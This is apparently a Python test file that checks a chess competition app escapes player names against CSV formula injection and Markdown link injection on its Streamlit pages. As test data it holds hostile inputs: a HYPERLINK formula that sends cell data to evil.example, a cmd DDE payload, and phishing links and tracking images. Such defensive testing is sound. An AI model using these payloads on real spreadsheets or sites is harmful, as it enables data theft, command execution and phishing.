"""Injection (issue 8): names that a spreadsheet would run as formulas (CSV exports), and
names that Streamlit would render as Markdown links or images (every page)."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from pathlib import Path

import pytest

from compcore.adapters.access import auth
from compcore.adapters.files import season_file
from compcore.adapters.files.csv_text import csv_text, neutral_cell
from compcore.adapters.store import Store
from compcore.cli import main as cli
from compcore.domain.model import Season
from compcore.domain.player_names import name_problem
from compcore.rules.rulesets import ruleset_of
from tests.adapters.store.test_store_support import make_season
from tests.app.test_app_support import ADMIN, DIRECTOR_HASH, PASSWORD, app, small_seasons
from ui import sheets
from ui.markdown import md

# --------------------------------------------------------------------------- CSV

#: each starts with one of OWASP's formula characters = + - @ tab CR
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tTab",
    "\rCR",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_start_gets_a_single_quote(text):
    assert neutral_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Anna de Vries", "-1", "+2", "12.5", "-0,5", "0", "", "a=b"])
def test_plain_names_and_numbers_stay_as_they_are(text):
    # "-1" and "+2" are colour balances and must stay numbers in the spreadsheet
    assert neutral_cell(text) == text


def test_csv_text_neutralises_every_cell_and_keeps_quoting():
    # a lone CR inside a cell is quoted (the csv module quotes only the "\n" line end), so
    # the row stays one row
    text = csv_text([["Naam", "Kl"], ["=1+1", -1], ['say "hi", @you', 2], ["\rCR", 0]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["Naam", "Kl"],
        ["'=1+1", "-1"],
        ['say "hi", @you', "2"],
        ["'\rCR", "0"],
    ]


#: the formulas a player's name can hold: a name has no tab or CR (compcore.domain.player_names)
NAMED = [f for f in FORMULAS if name_problem(f) is None]


def hostile_season() -> Season:
    """keizer-classic, 10 players (4 rounds played, one open), four named as formulas."""
    season = make_season()
    players = tuple(
        replace(p, name=NAMED[i]) if i < len(NAMED) else p for i, p in enumerate(season.players)
    )
    return replace(season, players=players)


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert (
                not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                or cell.lstrip("+-").replace(".", "").replace(",", "").isdigit()
            ), cell


def test_standings_csv_from_the_command_line_has_no_formula(tmp_path: Path, capsys):
    path = tmp_path / "s.json"
    season_file.dump(hostile_season(), path)
    assert cli.main(["standings", str(path), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    names = [row[1] for row in rows[1:]]
    assert sorted(n for n in names if n.startswith("'")) == sorted("'" + f for f in NAMED)
    assert_no_formula(rows)
    # the colour balance column still holds plain (signed) numbers
    kl = rows[0].index("Kl")
    assert {row[kl] for row in rows[1:]} <= {"0", "+1", "-1", "+2", "-2", "+3", "-3"}


def test_the_pairing_sheet_csv_has_no_formula():
    season = hostile_season()
    ruleset = ruleset_of(season)
    played = season.rounds[0]
    rows = list(csv.reader(io.StringIO(sheets.to_csv(season, ruleset, played, "nl"))))
    assert_no_formula(rows)
    names = {season.player(pid).name for g in played.games or () for pid in g.players}
    shown = {cell for row in rows[1:] for cell in row[1:3]}
    assert {"'" + n if n in NAMED else n for n in names} == shown


def test_standings_json_keeps_names_as_they_are(tmp_path: Path, capsys):
    # JSON is no spreadsheet: the names stay exactly what the season file says
    path = tmp_path / "s.json"
    season_file.dump(hostile_season(), path)
    assert cli.main(["standings", str(path), "--format", "json"]) == 0
    names = {row["name"] for row in json.loads(capsys.readouterr().out)["rows"]}
    assert set(NAMED) <= names


# --------------------------------------------------------------------------- Markdown

COMPETITION = "![c](http://host/pixel.png)"
CLUB = "[Club](http://evil.example/)"
NAMES = [
    "[Inloggen](http://evil.example/login)",
    "![p](http://host/p.png)",
    ":red[Rood] :material/home:",
    "www.evil.example",
    "# Kop",
]
#: an unescaped link or image, a URL or "www." autolink, a Streamlit directive
LIVE = re.compile(r"(?<!\\)\]\(|(?<!\\)://|(?<!\\)www\.|(?<!\\):(?:red|material)")


def test_md_escapes_what_markdown_would_read():
    # each character that makes Markdown gets a backslash (rendered as the character)
    assert md(COMPETITION) == r"!\[c\](http\://host/pixel.png)"
    assert md(NAMES[0]) == r"\[Inloggen\](http\://evil.example/login)"
    assert md(NAMES[2]) == r"\:red\[Rood\] \:material/home:"  # an opening ":" is enough
    assert md(NAMES[3]) == r"www\.evil.example"
    assert md("# Kop") == r"\# Kop" and md("1. Jan") == r"1\. Jan" and md("- x") == r"\- x"
    assert md("$x$ *y* `z` <b> a&b c@d.nl") == r"\$x\$ \*y\* \`z\` \<b\> a\&b c\@d.nl"
    assert md("two\nlines") == "two lines"


def test_md_leaves_ordinary_names_and_messages_alone():
    for text in ["Anna de Vries", "J. de Vries-Smit", "'t Hart", "rounds_per_cycle",
                 "no legal pairing exists (test)", "field 'x': 3 is too big"]:  # fmt: skip
        assert md(text) == text


@pytest.fixture
def hostile_db(tmp_path, monkeypatch) -> tuple[Path, int]:
    """The A/B ladder (8 players, 3 rounds complete) under hostile names."""
    season = small_seasons()[1]
    players = tuple(
        replace(p, name=NAMES[i]) if i < len(NAMES) else p for i, p in enumerate(season.players)
    )
    season = replace(season, competition=COMPETITION, club=CLUB, players=players)
    path = tmp_path / "club.duckdb"
    cid = Store(path).import_season(season, actor=ADMIN)
    monkeypatch.setenv("COMPCORE_DB", str(path))
    monkeypatch.setenv("COMPCORE_DIRECTOR_HASH", DIRECTOR_HASH)
    return path, cid


def markdown_sources(at) -> list[str]:
    """Every string the page hands to something that reads Markdown."""
    out: list[str] = []
    for kind in ("title", "header", "subheader", "markdown", "caption", "info", "success",
                 "warning", "error"):  # fmt: skip
        out += [str(e.value) for e in getattr(at, kind)]
    for table in at.table:
        frame = table.value
        out += [str(c) for c in frame.columns] + [str(v) for v in frame.to_numpy().ravel()]
    for kind in ("selectbox", "checkbox", "button", "form_submit_button", "text_input",
                 "number_input", "multiselect", "radio", "toggle", "text_area"):  # fmt: skip
        out += [str(w.label) for w in getattr(at, kind)]
    out += [str(e.label) for e in at.expander]
    return out


def director_page(cid: int, page: str):
    at = app()
    at.session_state["director"] = auth.login(PASSWORD, DIRECTOR_HASH)
    at.session_state["competition"] = cid
    at.run()
    if page != "overview":
        at.switch_page(f"pages/{page}.py").run()
    assert not at.exception, [e.value for e in at.exception]
    return at


@pytest.mark.usefixtures("steady_app")
@pytest.mark.parametrize(
    "page", ["overview", "round", "standings", "trends", "winners", "players", "settings"]
)
def test_names_render_as_text_on_every_page(hostile_db, page):
    _, cid = hostile_db
    at = director_page(cid, page)
    sources = markdown_sources(at)
    live = [s for s in sources if LIVE.search(s)]
    assert live == [], live
    # the competition is named on every page, as text
    assert any(md(COMPETITION) in s for s in sources), page


@pytest.mark.usefixtures("steady_app")
def test_the_directors_attendance_form_and_proposal_show_names_as_text(hostile_db):
    _, cid = hostile_db
    at = director_page(cid, "round")
    labels = [w.label for w in at.selectbox]
    # one selectbox per player, labelled with the (escaped) name
    assert {md(n) for n in NAMES} <= set(labels)
    next(b for b in at.form_submit_button if b.label == "Indelen").click().run()
    assert not at.exception, [e.value for e in at.exception]
    (table,) = at.table
    shown = {str(v) for v in table.value.to_numpy().ravel()}
    # every player is on a board or sits out: 8 players, 4 boards (no bye needed)
    assert {md(n) for n in NAMES} <= shown
    assert [s for s in markdown_sources(at) if LIVE.search(s)] == []
